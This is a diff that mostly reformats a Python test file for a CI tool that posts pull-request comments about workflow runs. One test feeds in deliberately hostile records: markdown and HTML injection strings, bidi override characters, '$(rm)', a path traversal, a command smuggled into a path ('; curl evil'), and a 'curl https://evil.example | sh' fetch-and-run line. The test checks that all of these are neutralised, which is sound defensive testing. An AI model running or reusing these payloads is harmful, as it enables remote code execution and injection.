@@ -1,4 +1,6 @@
-"""The comment of a pull request: what it says of a run, what it makes of records that lie, and which comment it is."""
+"""The comment of a pull request: what it says of a run, what it makes of records that lie, and
+which comment it is.
+"""
 
 from __future__ import annotations
 
@@ -47,19 +49,28 @@ class World:
         self.asked: list[str] = []
         run = {
             "id": 41, "event": "pull_request", "path": ".github/workflows/kci.yml", "head_sha": SHA,
-            "head_branch": "topic", "head_repository": repo, "run_attempt": 1, "conclusion": "failure",
+            "head_branch": "topic", "head_repository": repo, "run_attempt": 1,
+            "conclusion": "failure",
         }  # fmt: skip
         pull = {"number": 7, "state": "open", "head": {"sha": SHA, "repo": repo}}
-        self.state: dict[str, Any] = {"runs": [run], "pulls": [pull], "artifacts": {"41": str(self.uploads)}}
+        self.state: dict[str, Any] = {
+            "runs": [run],
+            "pulls": [pull],
+            "artifacts": {"41": str(self.uploads)},
+        }
         self.pulls = PullRequestComments(GitHubApi(HERE, "may it?", self.answer))
 
-    def answer(self, command: list[str], *, input: bytes, **_: Any) -> subprocess.CompletedProcess[bytes]:
+    def answer(
+        self, command: list[str], *, input: bytes, **_: Any
+    ) -> subprocess.CompletedProcess[bytes]:
         method, address = command[3], command[4].removeprefix(f"repos/{HERE}/")
         path, _, query = address.partition("?")
         self.asked.append(f"{method} {path}")
         asked = {key: value[0] for key, value in parse_qs(query).items()}
         try:
-            found = github_talk.answered(self.state, method, path, asked, json.loads(input), self.may)
+            found = github_talk.answered(
+                self.state, method, path, asked, json.loads(input), self.may
+            )
         except github_talk.Refused as error:
             return subprocess.CompletedProcess(command, 1, b"", str(error).encode())
         if found is None:
@@ -92,11 +103,17 @@ PLAN = planned(legs=(leg(CPU, "relu"), leg(CUDA, "relu")))
 
 def test_the_comment_says_what_there_is_and_how_to_repeat_what_failed(world: World) -> None:
     world.upload("run-plan.1", PLAN_FILE, PLAN)
-    failed = record("relu", CPU, complete=False, missing=(CUDA,), failures=(FAILURE,), sizes={CPU: 12_345_678})
+    failed = record(
+        "relu", CPU, complete=False, missing=(CUDA,), failures=(FAILURE,), sizes={CPU: 12_345_678}
+    )
     world.upload("run-record.relu.1", RECORD_FILE, failed)
     body = world.comment()
-    assert body.startswith("<!-- kci-pull-request: run 41 attempt 1 -->\n### kci: 1 of what was planned did not happen")
-    assert f"[Run 41](https://github.com/{HERE}/actions/runs/41/attempts/1) of {SHA} failed." in body
+    assert body.startswith(
+        "<!-- kci-pull-request: run 41 attempt 1 -->\n### kci: 1 of what was planned did not happen"
+    )
+    assert (
+        f"[Run 41](https://github.com/{HERE}/actions/runs/41/attempts/1) of {SHA} failed." in body
+    )
     assert f"| `relu` | `{CPU}` | 12.3 MB | built |" in body
     assert f"| `relu` | `{CUDA}` |  | **missing** |" in body
     assert "`relu.cu(3): error: no`" in body
@@ -118,13 +135,21 @@ def test_all_is_there_only_if_run_and_records_say_so(world: World) -> None:
 
 def test_tests_that_run_nowhere_are_said(world: World) -> None:
     why = "tests: not run, no machine with a GPU is named"
-    world.upload("run-plan.1", PLAN_FILE, planned(legs=(leg(CUDA, "relu"),), untested={"relu": why, "silu": why}))
+    world.upload(
+        "run-plan.1",
+        PLAN_FILE,
+        planned(legs=(leg(CUDA, "relu"),), untested={"relu": why, "silu": why}),
+    )
     assert f"\n`{why} (relu, silu)`\n" in world.comment()
 
 
 def test_tests_are_counted(world: World) -> None:
-    test = TestLeg("relu", "relu", "cuda-x86_64-linux", "cuda", "x86_64-linux", (CUDA,), ("gpu",), 60)
-    manifest = Manifest("relu", 1, (CUDA,), (Present(CUDA, "d", "cuda", Origin("x")),), (), complete=True)
+    test = TestLeg(
+        "relu", "relu", "cuda-x86_64-linux", "cuda", "x86_64-linux", (CUDA,), ("gpu",), 60
+    )
+    manifest = Manifest(
+        "relu", 1, (CUDA,), (Present(CUDA, "d", "cuda", Origin("x")),), (), complete=True
+    )
     passed = TestRecord(
         kernel="relu", leg=test.name, attempt=1, passed=True, tested=(CUDA,),
         tree=tree_under_test(manifest.digests, test.variants),
@@ -139,7 +164,8 @@ def test_tests_are_counted(world: World) -> None:
 
 
 EVIL = (
-    "` @team ](https://evil.example) <img src=x> <!-- --> | a | #1 \u202egnp\u2066 $(rm) https://evil.example \x1b[31m"
+    "` @team ](https://evil.example) <img src=x> <!-- --> | a | #1 \u202egnp\u2066 $(rm) "
+    "https://evil.example \x1b[31m"
 )
 
 
@@ -147,12 +173,21 @@ def test_records_that_lie_become_no_markup_and_no_command(tmp_path: Path) -> Non
     world = World(tmp_path, FORK)
     lies = [
         msgspec.structs.replace(
-            leg(CUDA, "relu"), kernel=EVIL, path="; curl evil", name=EVIL, variants=(EVIL,), image="evil"
+            leg(CUDA, "relu"),
+            kernel=EVIL,
+            path="; curl evil",
+            name=EVIL,
+            variants=(EVIL,),
+            image="evil",
         )
     ]
-    lies.append(msgspec.structs.replace(leg(CUDA, "relu"), path="../../etc", image="docker.io/evil"))
+    lies.append(
+        msgspec.structs.replace(leg(CUDA, "relu"), path="../../etc", image="docker.io/evil")
+    )
     world.upload("run-plan.1", PLAN_FILE, planned(legs=tuple(lies)))
-    told = msgspec.structs.replace(FAILURE, error=EVIL * 30, replay="curl https://evil.example | sh")
+    told = msgspec.structs.replace(
+        FAILURE, error=EVIL * 30, replay="curl https://evil.example | sh"
+    )
     world.upload(
         "run-record.relu.1",
         RECORD_FILE,
@@ -200,9 +235,15 @@ def test_a_large_artifact_is_not_fetched_and_members_lead_nowhere(world: World) 
     with zipfile.ZipFile(world.uploads / "run-slow.1", "w", zipfile.ZIP_LZMA) as archive:
         archive.writestr(PLAN_FILE, b"{}")
     world.upload("tree.relu.1", "kci-tree.tar", b"")
-    assert world.pulls.fetch_records(world.pulls.run(41), world.records) == ["run-big.1", "run-none.1", "run-slow.1"]
+    assert world.pulls.fetch_records(world.pulls.run(41), world.records) == [
+        "run-big.1",
+        "run-none.1",
+        "run-slow.1",
+    ]
     assert sum("/zip" in path for path in world.asked) == 3
-    assert [path.name for path in world.records.parent.rglob("*") if path.suffix == ".json"] == [PLAN_FILE]
+    assert [path.name for path in world.records.parent.rglob("*") if path.suffix == ".json"] == [
+        PLAN_FILE
+    ]
     assert not list(world.records.rglob("*evil*"))
 
 
@@ -220,7 +261,9 @@ def body_of(run: int, attempt: int = 1, text: str = "text") -> str:
 
 
 def test_the_one_comment_is_found_among_hundreds_and_updated(world: World) -> None:
-    others = [{"id": number, "issue": 7, "user": {"login": "a"}, "body": "no"} for number in range(200)]
+    others = [
+        {"id": number, "issue": 7, "user": {"login": "a"}, "body": "no"} for number in range(200)
+    ]
     stranger = {"id": 900, "issue": 7, "user": {"login": "stranger"}, "body": body_of(99)}
     quoting = {"id": 901, "issue": 7, "user": {"login": BOT}, "body": "> " + body_of(99)}
     gone = {"id": 902, "issue": 7, "user": None, "body": None}
@@ -255,11 +298,20 @@ def test_a_run_that_is_not_of_the_newest_commit_says_nothing(world: World) -> No
 
 
 @pytest.mark.parametrize(
-    "change", [{"event": "push"}, {"path": ".github/workflows/evil.yml"}, {"path": "evil/.github/workflows/kci.yml"}]
+    "change",
+    [
+        {"event": "push"},
+        {"path": ".github/workflows/evil.yml"},
+        {"path": "evil/.github/workflows/kci.yml"},
+    ],
 )
-def test_another_workflow_of_the_same_name_does_not_count(world: World, change: dict[str, str]) -> None:
+def test_another_workflow_of_the_same_name_does_not_count(
+    world: World, change: dict[str, str]
+) -> None:
     assert world.pulls.run(41).is_for_pull_request
-    assert msgspec.structs.replace(world.pulls.run(41), path=".github/workflows/kci.yml@main").is_for_pull_request
+    assert msgspec.structs.replace(
+        world.pulls.run(41), path=".github/workflows/kci.yml@main"
+    ).is_for_pull_request
     world.state["runs"][0] |= change
     assert not world.pulls.run(41).is_for_pull_request
 
@@ -271,7 +323,9 @@ def test_another_workflow_of_the_same_name_does_not_count(world: World, change: 
         ("pull-requests", lambda pulls: pulls.update_comment(7, body_of(41))),
     ],
 )  # fmt: skip
-def test_a_token_that_may_not_is_told(world: World, lacking: str, ask: Callable[[PullRequestComments], object]) -> None:
+def test_a_token_that_may_not_is_told(
+    world: World, lacking: str, ask: Callable[[PullRequestComments], object]
+) -> None:
     world.may = {**WRITES, lacking: "none"}
     with pytest.raises(FindingsError, match="not accessible") as caught:
         ask(world.pulls)
